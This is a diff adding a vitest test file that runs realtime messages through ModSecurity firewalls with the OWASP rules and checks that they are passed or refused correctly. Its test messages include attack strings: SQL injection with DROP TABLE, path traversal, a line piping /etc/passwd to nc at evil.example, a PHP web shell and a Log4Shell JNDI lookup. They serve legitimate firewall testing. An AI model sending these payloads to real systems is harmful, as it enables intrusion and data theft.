@@ -1,0 +1,61 @@
+import { describe, expect, it, vi } from 'vitest'
+import { type FirewallName, missingForFirewall, startFirewall } from '../support/firewall.ts'
+import { randomSession, rawPost } from '../support/raw-client.ts'
+import { RealtimeServers } from '../support/realtime-servers.ts'
+import { type WayName, ways } from '../support/session-rig.ts'
+import { watchClient } from '../support/watched-client.ts'
+
+/** What rules against attacks look for. */
+const texts = [
+  'hello',
+  'hello <script>alert(1)</script>',
+  "' OR 1=1 --",
+  '1 UNION SELECT password FROM users; DROP TABLE users;--',
+  '../../../../etc/passwd',
+  '; cat /etc/passwd | nc evil.example 1 `id` $(id)',
+  '<?php system($_GET["x"]); ?>',
+  `$${'{jndi:ldap://evil.example/a}'}`,
+  'a\r\nSet-Cookie: x=1\r\n\r\n<html>',
+  '--steadfast\r\nContent-Disposition: form-data; name="a"\r\n\r\nx\r\n--steadfast--',
+  '\0'.repeat(200),
+  '"'.repeat(200_000),
+  'a line\n'.repeat(40_000),
+]
+const bytes = new Uint8Array(200_000).map((_, index) => index * 7).buffer
+
+const firewalls: readonly [FirewallName, number][] = [
+  ['apache', 1],
+  ['apache', 2],
+  ['nginx', 1],
+]
+
+describe.each(firewalls)('ModSecurity in %s with the rules of OWASP, paranoia level %i', (name, level) => {
+  const missing = missingForFirewall(name)
+  const why = `MISSING: ${missing.join(', ')}; .ci/run tells which packages of Debian bring them`
+  if (missing.length > 0 && !process.env['CI']) console.warn(`NOT TESTED: ${name} with ModSecurity. ${why}`)
+
+  it.skipIf(missing.length > 0 && !process.env['CI']).each(ways.map(({ type }) => type))(
+    'lets %s pass, whatever the messages say',
+    async (type: WayName) => {
+      if (missing.length > 0) throw new Error(why)
+      await using servers = await RealtimeServers.start({
+        options: { onMessage: (session, { data }) => session.send(data), authenticate: () => ({ id: 'ann' }) },
+      })
+      await using firewall = await startFirewall(name, { port: servers.ports[0] ?? 0, level })
+      const prepare = () => ({ auth: { token: 'x'.repeat(8754), note: "' OR 1=1 --" } })
+      const transports = [type === 'poll' ? { type, intervalMs: 100 } : type]
+      await using page = watchClient(`${firewall.origin}/realtime`, { protocol: 'session', transports, prepare })
+      for (const each of [...texts, bytes]) page.client.send(each)
+      await vi.waitFor(() => expect(page.data.length, JSON.stringify(page.events.slice(-3))).toBe(texts.length + 1), 20_000)
+      expect([page.data, page.causes()]).toEqual([[...texts, bytes], []])
+    },
+  )
+
+  it.skipIf(missing.length > 0 && !process.env['CI'])('refuses a body that is no form', async () => {
+    if (missing.length > 0) throw new Error(why)
+    await using servers = await RealtimeServers.start()
+    await using firewall = await startFirewall(name, { port: servers.ports[0] ?? 0, level })
+    const response = await rawPost(`${firewall.origin}/realtime`, { session: randomSession(), wait: 0 })
+    expect([response.status, firewall.rules()]).toEqual([403, expect.arrayContaining(['920420', '949110'])])
+  })
+})
